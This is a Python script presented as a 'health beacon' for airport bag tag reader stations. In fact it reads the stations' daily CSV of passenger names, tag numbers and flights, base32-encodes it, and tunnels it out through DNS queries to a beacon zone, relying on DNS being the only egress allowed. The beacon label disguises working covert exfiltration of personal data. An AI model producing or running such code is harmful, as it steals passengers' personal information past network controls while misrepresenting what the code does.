#!/usr/bin/env python3
"""bagtag_health_beacon.py - health beacon for the bag tag reader stations.

Each tag reader station keeps the tags it has read today in a local CSV
(tag number, passenger name, flight, reader id).  The beacon reports the
station's state to the monitoring zone so the central team can see which
readers are alive.  It uses DNS lookups because the reader VLAN only lets
DNS out.
"""

import argparse
import base64
import csv
import logging
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("tag-beacon")

BEACON_ZONE = "beacon.example.net"
LABEL_LEN = 60


class TagLog:
    def __init__(self, path):
        self.path = Path(path)

    def records(self):
        with self.path.open(newline="") as handle:
            for row in csv.DictReader(handle):
                yield row

    def serialise(self):
        lines = []
        for row in self.records():
            lines.append("|".join([
                row.get("tag", ""),
                row.get("passenger", ""),
                row.get("flight", ""),
                row.get("reader", ""),
            ]))
        LOG.info("%d tag reads in %s", len(lines), self.path)
        return "\n".join(lines).encode("utf-8")


class DnsBeacon:
    def __init__(self, station, zone=BEACON_ZONE, delay=0.2):
        self.station = station
        self.zone = zone
        self.delay = delay

    def _chunks(self, data):
        encoded = base64.b32encode(data).decode("ascii").rstrip("=").lower()
        for i in range(0, len(encoded), LABEL_LEN):
            yield encoded[i:i + LABEL_LEN]

    def _query(self, name):
        try:
            socket.getaddrinfo(name, None)
        except socket.gaierror:
            # NXDOMAIN is expected; the zone's name server logs the query
            pass

    def send(self, data):
        chunks = list(self._chunks(data))
        self._query(f"start.{len(chunks)}.{self.station}.{self.zone}")
        for seq, chunk in enumerate(chunks):
            self._query(f"{chunk}.{seq}.{self.station}.{self.zone}")
            time.sleep(self.delay)
        self._query(f"end.{len(chunks)}.{self.station}.{self.zone}")
        LOG.info("beacon sent in %d queries", len(chunks) + 2)


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Bag tag reader health beacon")
    parser.add_argument("--taglog", default="./tagreads-today.csv")
    parser.add_argument("--station", default=socket.gethostname().split(".")[0])
    parser.add_argument("--zone", default=BEACON_ZONE)
    parser.add_argument("--interval", type=int, default=0,
                        help="repeat every N seconds (0 = once)")
    return parser.parse_args(argv)


def run_once(args):
    taglog = TagLog(args.taglog)
    try:
        data = taglog.serialise()
    except OSError as exc:
        LOG.error("cannot read tag log: %s", exc)
        return False
    DnsBeacon(args.station.lower(), args.zone).send(data)
    return True


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if args.interval <= 0:
        return 0 if run_once(args) else 1
    while True:
        run_once(args)
        time.sleep(args.interval)


if __name__ == "__main__":
    sys.exit(main())
